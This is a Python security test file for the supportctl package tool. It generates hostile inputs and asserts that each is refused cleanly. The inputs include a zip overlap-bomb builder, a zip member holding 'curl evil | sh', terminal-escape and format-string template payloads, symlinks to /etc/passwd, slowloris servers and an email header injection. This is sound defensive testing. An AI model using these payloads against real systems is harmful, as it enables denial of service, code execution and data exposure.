"""Issue 15: a hostile-input corpus, generated here, for each finding of the red-team run.

Each case asserts the exit code, exactly one error line and no traceback, that nothing is written outside
the temporary area, that a previous package stays intact, and a wall-time bound where the old code hung.
"""

from __future__ import annotations

import json
import os
import signal
import stat
import struct
import subprocess
import sys
import threading
import time
import unicodedata
import zipfile
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from supportctl.errors import ConfigError, ExitCode
from supportctl.package import fetch as core
from supportctl.package import manifest as pkgmod
from tests import pkgtools as pt
from tests.conftest import ROOT

UNSAFE = ["\x1b", "\x07", "\x00", "\x85", "\x9b", "\x7f", "\u202e", "\u2066", "\u200f", "\u2028", "\r"]


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.delenv(var, raising=False)


@pytest.fixture(scope="module")
def good_pkg(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return pt.make_package(tmp_path_factory.mktemp("pkg") / "pkg")


@pytest.fixture
def server() -> Iterator[pt.Server]:
    with pt.serve() as s:
        yield s


@pytest.fixture
def old(tmp_path: Path, good_pkg: Path) -> tuple[Path, dict[str, bytes]]:
    work = tmp_path / "work"
    dest = work / "registration-package"
    core.fetch(str(good_pkg), core.FetchOptions(dest=dest))
    return dest, pt.snapshot(work)


def assert_untouched(old: tuple[Path, dict[str, bytes]]) -> None:
    dest, before = old
    assert pt.snapshot(dest.parent) == before


def one_error_line(stderr: str) -> str:
    assert "Traceback" not in stderr
    lines = [ln for ln in stderr.splitlines() if ln.startswith("error:")]
    assert len(lines) == 1, stderr
    return lines[0]


def no_raw_unsafe(text: str) -> None:
    for ch in UNSAFE:
        assert ch not in text, (ch, text)


def fetch_fails(cli, source: str, old, code: ExitCode, *extra: str) -> str:
    dest = old[0]
    r = cli("fetch", source, "--dest", str(dest), *extra)
    assert r.exit_code == code, r.stderr
    assert_untouched(old)
    return one_error_line(r.stderr)


def with_manifest(pkg: Path, tmp: Path, change) -> Path:  # type: ignore[no-untyped-def]
    """A copy of `pkg` whose manifest text went through `change`."""
    copy = pt.copy_tree(pkg, tmp / f"variant{len(list(tmp.glob('variant*')))}")
    text = (copy / "package.toml").read_text("utf-8")
    (copy / "package.toml").write_text(change(text), "utf-8")
    return copy


# ---------------------------------------------------------------- 1. zips: overlap bomb, extra members


def overlap_bomb(pkg: Path, out: Path, members: int = 30, kernel: int = 1 << 20) -> Path:
    """The good package, then `members` STORED entries whose data overlap: each one's data is every later
    local header plus the shared kernel (David Fifield's construction, without compression)."""
    pt.make_zip(pkg, out)
    with zipfile.ZipFile(out) as zf:
        existing = zf.infolist()
        head = out.read_bytes()[: zf.start_dir]
    central = bytearray()
    kernel_bytes = bytes(range(256)) * (kernel // 256)
    names = [f"bomb{n:03d}.bin".encode() for n in range(members)]
    # Build from the last member backwards: data(n) = header(n+1) + data(n+1), data(last) = kernel.
    locals_: list[bytes] = []
    data = kernel_bytes
    entries = []
    for name in reversed(names):
        crc = zlib.crc32(data)
        lh = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(data), len(data), len(name), 0)
        entries.append((name, crc, len(data)))
        locals_.append(lh + name)
        data = lh + name + data
    entries.reverse()
    locals_.reverse()
    body = head + data
    offset = len(head)
    for (name, crc, size), lh in zip(entries, locals_, strict=True):
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                0,
                0,
                0x21,
                crc,
                size,
                size,
                len(name),
                0,
                0,
                0,
                0,
                0o100644 << 16,
                offset,
            )
            + name
        )
        offset += len(lh)
    for i in existing:
        name = i.filename.encode()
        central += (
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                i.compress_type,
                0,
                0x21,
                i.CRC,
                i.compress_size,
                i.file_size,
                len(name),
                0,
                0,
                0,
                0,
                i.external_attr,
                i.header_offset,
            )
            + name
        )
    n = len(entries) + len(existing)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), len(body), 0)
    out.write_bytes(body + bytes(central) + end)
    return out


def test_overlap_bomb_is_refused_before_writing(cli, good_pkg: Path, tmp_path: Path, old) -> None:
    bomb = overlap_bomb(good_pkg, tmp_path / "bomb.zip")
    with zipfile.ZipFile(bomb) as zf:  # it is a zip that zipfile reads, and it declares many times its size
        assert sum(i.file_size for i in zf.infolist()) > 20 * bomb.stat().st_size
    line = fetch_fails(cli, str(bomb), old, ExitCode.INVALID_INPUT)
    assert "overlap" in line


def test_members_not_in_the_manifest_are_ignored_with_a_warning(cli, good_pkg: Path, tmp_path: Path) -> None:
    run = zipfile.ZipInfo("run.sh")
    run.external_attr = 0o100755 << 16
    z = pt.make_zip(good_pkg, tmp_path / "extra.zip", extra=[(".bashrc", b"curl evil | sh\n"), (run, b"#!/bin/sh\n")])
    dest = tmp_path / "dest"
    r = cli("fetch", str(z), "--dest", str(dest))
    assert r.exit_code == 0, r.stderr
    assert "ignored 2 file(s) the manifest does not list (not copied): .bashrc, run.sh" in r.stderr
    assert sorted(p.name for p in dest.iterdir()) == sorted(
        [".supportctl-package", "package.toml", "registration-form.pdf", "service-description.pdf"]
    )


# ---------------------------------------------------------------- 6. zip member names


def renamed_zip(pkg: Path, out: Path, members: list[tuple[str, bytes]], patch: tuple[bytes, bytes] | None) -> Path:
    pt.make_zip(pkg, out, extra=members)
    if patch:
        data = out.read_bytes()
        assert data.count(patch[0]) == 2  # local header and central directory
        out.write_bytes(data.replace(*patch))
    return out


ZIP_NAME_CASES = {
    "nul": ([("evilX.txt", b"x")], (b"evilX.txt", b"evil\x00.txt"), "control character"),
    "escape": ([("evilX.txt", b"x")], (b"evilX.txt", b"evil\x1b.txt"), "control character"),
    "nfc-nfd": (
        [(unicodedata.normalize("NFC", "café.txt"), b"1"), (unicodedata.normalize("NFD", "café.txt"), b"2")],
        None,
        "appears twice",
    ),
    "case": ([("Notes.txt", b"1"), ("notes.TXT", b"2")], None, "appears twice"),
    "file-and-dir": ([("docs", b"file"), ("docs/inner.txt", b"x")], None, "both a file and a directory"),
}


@pytest.mark.parametrize("how", ["local", "http"])
@pytest.mark.parametrize("case", sorted(ZIP_NAME_CASES))
def test_hostile_member_names(cli, good_pkg: Path, tmp_path: Path, old, server, case: str, how: str) -> None:
    members, patch, expected = ZIP_NAME_CASES[case]
    z = renamed_zip(good_pkg, tmp_path / "names.zip", members, patch)
    source = str(z)
    if how == "http":
        server.routes["/p.zip"] = pt.body(z.read_bytes())
        source = server.url("/p.zip")
    line = fetch_fails(cli, source, old, ExitCode.INVALID_INPUT)
    assert expected in line
    assert ".partial" not in line and str(tmp_path / "work") not in line
    no_raw_unsafe(line)


# ---------------------------------------------------------------- 2. terminal injection


def test_manifest_name_and_version_are_shown_escaped(cli, good_pkg: Path, tmp_path: Path) -> None:
    evil = with_manifest(
        good_pkg,
        tmp_path,
        lambda t: t.replace('name = "', 'name = "x\\u001b]0;pwned\\u0007\\u001b[2J', 1).replace(
            'version = "', 'version = "\\u202e', 1
        ),
    )
    r = cli("fetch", str(evil), "--dest", str(tmp_path / "d"))
    assert r.exit_code == 0, r.stderr
    no_raw_unsafe(r.stdout + r.stderr)
    assert "x\\u001b]0;pwned\\u0007\\u001b[2J" in r.stderr
    r = cli("show", "fields", "--package", str(tmp_path / "d"))
    assert r.exit_code == 0, r.stderr
    no_raw_unsafe(r.stdout + r.stderr)
    assert "Using package x\\u001b]0;pwned" in r.stderr
    r = cli("show", "fields", "--package", str(tmp_path / "d"), "--json")
    assert json.loads(r.stdout)["ok"] is True


def test_http_reason_phrase_is_shown_escaped(cli, server, old) -> None:
    def route(h: BaseHTTPRequestHandler) -> None:
        h.send_response(500, "Oops\x1b[2J\x1b]0;owned\x07\x9b")
        h.send_header("Content-Length", "0")
        h.end_headers()

    server.routes["/p.zip"] = route
    line = fetch_fails(cli, server.url("/p.zip"), old, ExitCode.TRANSFER)
    no_raw_unsafe(line)
    assert "500 Oops\\u001b[2J" in line


@given(st.text())
def test_sanitize_leaves_nothing_unsafe_and_json_stays_json(text: str) -> None:
    from supportctl import output

    shown = output.sanitize(text)
    for ch in shown:
        assert not (ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F or ch in output.BIDI_CONTROLS + "\u2028\u2029")
    assert json.loads(output.envelope("x", text))["data"] == text
    assert output.sanitize(text) == text or output.has_unsafe(text)


# ---------------------------------------------------------------- 3. templates


@pytest.mark.parametrize(
    "subject",
    [
        "{program.__class__.__mro__}",
        "{program.__doc__}",
        "{program.__class__.__init__.__globals__}",
        "{program:>1500000000}",
        "{program!r}",
        "{0}",
        "{program[0]}",
        "{nosuchfield}",
        "{program",
    ],
)
def test_subject_template_can_only_insert_named_values(cli, good_pkg: Path, tmp_path: Path, subject: str) -> None:
    evil = with_manifest(
        good_pkg,
        tmp_path,
        lambda t: "\n".join(
            f"subject = {json.dumps(subject)}" if ln.startswith("subject = ") else ln for ln in t.splitlines()
        ),
    )
    started = time.monotonic()
    r = cli("show", "fields", "--package", str(evil))
    assert time.monotonic() - started < 10
    assert r.exit_code == ExitCode.INVALID_INPUT
    assert "process.subject" in one_error_line(r.stderr)


def test_reply_template_with_a_conversion_is_refused(cli, good_pkg: Path, tmp_path: Path) -> None:
    evil = with_manifest(
        good_pkg,
        tmp_path,
        lambda t: t.replace("[process.reply]\n", '[process.reply]\ncontract_subject = { en = "{name!r}" }\n'),
    )
    r = cli("show", "fields", "--package", str(evil))
    assert r.exit_code == ExitCode.INVALID_INPUT
    assert "process.reply.contract_subject.en" in one_error_line(r.stderr)


def test_subject_values_lose_control_and_bidi_characters(good_pkg: Path) -> None:
    from supportctl.mail import compose

    pkg = pkgmod.load(good_pkg)
    values = {"program": "Gold\u202eevil", "membership_id": "M-1\x1b[2J", "company": "ACME\r\nBcc: x@y"}
    c = compose.compose(pkg, values, b"%PDF-1.4\n", "f.pdf", "me@example.com")
    assert c.subject == "Support registration / Supportregistrierung: Gold evil M-1 [2J - ACME Bcc: x@y"
    assert str(c.message["Subject"]) == c.subject


# ---------------------------------------------------------------- 4. local package directories


def test_document_linked_out_of_the_package_is_refused(cli, good_pkg: Path, tmp_path: Path, old) -> None:
    for n, target in enumerate(["/etc/passwd", "/dev/zero"]):
        evil = pt.copy_tree(good_pkg, tmp_path / f"link{n}")
        (evil / "service-description.pdf").unlink()
        (evil / "service-description.pdf").symlink_to(target)
        started = time.monotonic()
        line = fetch_fails(cli, str(evil), old, ExitCode.INVALID_INPUT)
        assert time.monotonic() - started < 10
        assert "symbolic link" in line
        assert "sha256" not in line


def test_manifest_as_dev_zero_or_fifo_is_refused(proc, good_pkg: Path, tmp_path: Path, old) -> None:
    zero = pt.copy_tree(good_pkg, tmp_path / "zero")
    (zero / "package.toml").unlink()
    (zero / "package.toml").symlink_to("/dev/zero")
    fifo = pt.copy_tree(good_pkg, tmp_path / "fifo")
    (fifo / "package.toml").unlink()
    os.mkfifo(fifo / "package.toml")
    for evil in (zero, fifo):
        started = time.monotonic()
        r = proc("fetch", str(evil), "--dest", str(old[0]), timeout=30)
        assert time.monotonic() - started < 20
        assert r.exit_code == ExitCode.INVALID_INPUT, r.stderr
        one_error_line(r.stderr)
        assert_untouched(old)


def test_nul_in_a_document_path_is_refused(cli, good_pkg: Path, tmp_path: Path, old) -> None:
    evil = with_manifest(
        good_pkg, tmp_path, lambda t: t.replace('file = "service-description.pdf"', 'file = "service\\u0000.pdf"')
    )
    line = fetch_fails(cli, str(evil), old, ExitCode.INVALID_INPUT)
    assert "documents[0].file" in line


def test_fifo_as_the_fetch_source_is_refused(proc, tmp_path: Path, old) -> None:
    os.mkfifo(tmp_path / "pkg.zip")
    r = proc("fetch", str(tmp_path / "pkg.zip"), "--dest", str(old[0]), timeout=30)
    assert r.exit_code == ExitCode.INVALID_INPUT
    assert "not a regular file" in one_error_line(r.stderr)
    assert_untouched(old)


# ---------------------------------------------------------------- 5. hangs


def test_validate_a_fifo_does_not_hang(proc, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "form.pdf")
    started = time.monotonic()
    r = proc("validate", str(tmp_path / "form.pdf"), timeout=30)
    assert time.monotonic() - started < 20
    assert r.exit_code == ExitCode.INVALID_INPUT
    assert "not a regular file" in one_error_line(r.stderr)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
def test_config_file_that_is_not_a_file(proc, tmp_path: Path, kind: str) -> None:
    path = tmp_path / "config.toml"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path = Path("/dev/zero")
    started = time.monotonic()
    r = proc("config", "show", env={"SUPPORTCTL_CONFIG": str(path)}, timeout=30)
    assert time.monotonic() - started < 20
    assert r.exit_code == ExitCode.CONFIG
    assert "not a regular file" in one_error_line(r.stderr)


def slow_headers(stop: threading.Event) -> pt.Route:
    def route(h: BaseHTTPRequestHandler) -> None:
        h.wfile.write(b"HTTP/1.0 200 OK\r\n")
        while not stop.is_set():
            try:
                h.wfile.write(b"X-Drip: a\r\n")
                h.wfile.flush()
            except OSError:
                return
            stop.wait(0.5)

    return route


def slowloris(data: bytes, stop: threading.Event) -> pt.Route:
    def route(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Length", str(len(data)))
        h.end_headers()
        for i in range(len(data)):
            if stop.is_set():
                return
            try:
                h.wfile.write(data[i : i + 1])
                h.wfile.flush()
            except OSError:
                return
            stop.wait(0.5)

    return route


@pytest.mark.parametrize("route", ["slow-headers", "slowloris"])
def test_deadline_bounds_the_whole_download(cli, server, good_pkg: Path, tmp_path: Path, old, route: str) -> None:
    data = pt.make_zip(good_pkg, tmp_path / "p.zip").read_bytes()
    server.routes["/p.zip"] = slow_headers(server.stop) if route == "slow-headers" else slowloris(data, server.stop)
    started = time.monotonic()
    line = fetch_fails(cli, server.url("/p.zip"), old, ExitCode.TRANSFER, "--timeout", "2", "--deadline", "3")
    assert 2.5 < time.monotonic() - started < 10
    assert "did not finish within 3 s" in line


def test_deadline_setting_is_validated(cli) -> None:
    r = cli("fetch", "--deadline", "0")
    assert r.exit_code == ExitCode.USAGE


def test_sigterm_during_fetch_cleans_up(server, good_pkg: Path, tmp_path: Path, old) -> None:
    data = pt.make_zip(good_pkg, tmp_path / "p.zip").read_bytes()
    server.routes["/p.zip"] = pt.stall(data, server.stop)
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    p = subprocess.Popen(
        [sys.executable, "-m", "supportctl", "fetch", server.url("/p.zip"), "--dest", str(old[0])],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 20
        while not list(old[0].parent.glob("*.partial")) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert list(old[0].parent.glob("*.partial")), "the fetch never started"
        p.send_signal(signal.SIGTERM)
        _out, err = p.communicate(timeout=20)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    assert p.returncode == ExitCode.TERMINATED, err
    assert "Traceback" not in err and "terminated" in err
    assert_untouched(old)


# ---------------------------------------------------------------- 8. config


@pytest.mark.parametrize(
    ("toml", "key"),
    [
        ("[fetch]\ntimeout = 1e400\n", "fetch.timeout"),
        ("[fetch]\ntimeout = nan\n", "fetch.timeout"),
        ("[fetch]\ntimeout = 0\n", "fetch.timeout"),
        ("[fetch]\ndeadline = -5\n", "fetch.deadline"),
        ("[smtp]\nport = 99999999\n", "smtp.port"),
        ("[smtp]\nport = 0\n", "smtp.port"),
        ("[inbox]\nmax_parts = -1\n", "inbox.max_parts"),
        ("[inbox]\nmax_message_bytes = 0\n", "inbox.max_message_bytes"),
        ("[inbox]\nmax_depth = 2.5\n", "inbox.max_depth"),
    ],
)
def test_config_values_are_validated_on_load(cli, isolated: Path, toml: str, key: str) -> None:
    cfg = isolated / ".config" / "supportctl" / "config.toml"
    cfg.parent.mkdir(parents=True)
    cfg.write_text(toml)
    r = cli("config", "show")
    assert r.exit_code == ExitCode.CONFIG
    assert key in one_error_line(r.stderr)


def test_env_values_are_validated_too(cli) -> None:
    r = cli("config", "show", env={"SUPPORTCTL_SMTP_PORT": "70000"})
    assert r.exit_code == ExitCode.CONFIG
    assert "SUPPORTCTL_SMTP_PORT: smtp.port must be between 1 and 65535, not 70000" in one_error_line(r.stderr)


def test_config_smtp_keeps_the_keys_it_does_not_change(cli, isolated: Path) -> None:
    cfg = isolated / ".config" / "supportctl" / "config.toml"
    cfg.parent.mkdir(parents=True)
    cfg.write_text(
        'lang = "en"\n\n[smtp]\nhost = "old.example.com"\nsecurity = "none"\nport = 2525\n'
        'username = "me"\npassword_source = "command"\npassword_command = "pass show smtp"\n'
        'allow_plaintext_auth = true\ntimeout = 12\ncc = "boss@example.com"\n'
    )
    r = cli("config", "smtp", "--host", "new.example.com", "--no-test")
    assert r.exit_code == 0, r.stderr
    from supportctl import config

    values = config.read_file(cfg)
    assert values["smtp.host"] == "new.example.com"
    assert values["smtp.password_command"] == "pass show smtp"
    assert values["smtp.allow_plaintext_auth"] is True
    assert values["smtp.timeout"] == 12
    assert values["smtp.cc"] == "boss@example.com"
    assert values["smtp.port"] == 2525
    assert values["lang"] == "en"


# ---------------------------------------------------------------- 9. directories


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def _message() -> object:
    from email.message import EmailMessage

    msg = EmailMessage()
    msg["From"] = "me@example.com"
    msg["To"] = "desk@example.com"
    msg["Subject"] = "x"
    msg.set_content("x")
    return msg


def test_state_outbox_and_keys_directories_are_private(isolated: Path) -> None:
    from supportctl import paths
    from supportctl.mail import outbox

    outbox.enqueue(_message(), "key")  # type: ignore[arg-type]
    state = paths.state_dir()
    for d in (state, state / "outbox", state / "outbox" / ".keys", state.parent):
        assert _mode(d) == 0o700, d


def test_existing_wide_outbox_is_tightened(isolated: Path) -> None:
    from supportctl import paths
    from supportctl.mail import outbox

    (paths.state_dir() / "outbox").mkdir(parents=True, mode=0o755)
    os.chmod(paths.state_dir() / "outbox", 0o755)
    outbox.enqueue(_message())  # type: ignore[arg-type]
    assert _mode(paths.state_dir() / "outbox") == 0o700


@pytest.mark.parametrize("which", ["state", "outbox"])
def test_symlinked_state_or_outbox_directory_is_refused(cli, isolated: Path, tmp_path: Path, which: str) -> None:
    from supportctl import paths
    from supportctl.mail import outbox

    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    state = paths.state_dir()
    link = state if which == "state" else state / "outbox"
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(elsewhere)
    with pytest.raises(ConfigError, match="symbolic link"):
        outbox.enqueue(_message())  # type: ignore[arg-type]
    assert list(elsewhere.iterdir()) == []
    r = cli("outbox", "list")
    assert r.exit_code == ExitCode.CONFIG
    assert "is a symbolic link" in one_error_line(r.stderr)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a directory to another user")
def test_outbox_owned_by_someone_else_is_refused(cli, isolated: Path) -> None:
    from supportctl import paths

    box = paths.state_dir() / "outbox"
    box.mkdir(parents=True)
    os.chown(box, 65534, 65534)
    r = cli("outbox", "list")
    assert r.exit_code == ExitCode.CONFIG
    assert "belongs to another user (uid 65534)" in one_error_line(r.stderr)
